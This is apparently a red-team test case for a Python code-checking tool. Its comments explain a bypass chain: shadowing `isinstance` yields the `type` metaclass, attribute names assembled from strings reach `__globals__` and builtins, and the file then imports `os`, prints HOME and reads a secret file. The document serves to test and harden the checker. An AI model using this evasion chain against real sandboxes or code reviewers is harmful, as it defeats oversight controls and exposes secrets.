# family: class machinery (red-team round 14: type(x) reaching the tool's code)
# Chain: call_handler._named_call treats any call named `isinstance`/`issubclass` as the builtin and
# visits its second argument as CLASSINFO, where type(x) "is only looked at" (calls.type_call operand).
# The tool defines its own `isinstance(a, b): return b`, so isinstance(0, type(c)) returns type(c);
# with c = int that is the metaclass `type` -> type(attrgetter) -> run-time-named getters ->
# entry.__globals__ -> builtins -> open(secret) / __import__("os").
import operator


def isinstance(value, kind):
    return kind


def class_of(c):
    return isinstance(0, type(c))


def entry():
    meta = class_of(int)
    make = meta(operator.attrgetter("real"))
    u = "_"
    g = make(u + u + "globals" + u + u)(entry)
    b = g[u + u + "builtins" + u + u]
    bdict = b if type(b) is dict else make(u + u + "dict" + u + u)(b)
    osmod = bdict[u + u + "import" + u + u]("os")
    print("meta:", meta, "module:", osmod)
    print("env HOME:", osmod.environ.get("HOME"))
    print("secret:", bdict["open"]("/tmp/r14/work/secret.txt").read())


entry()
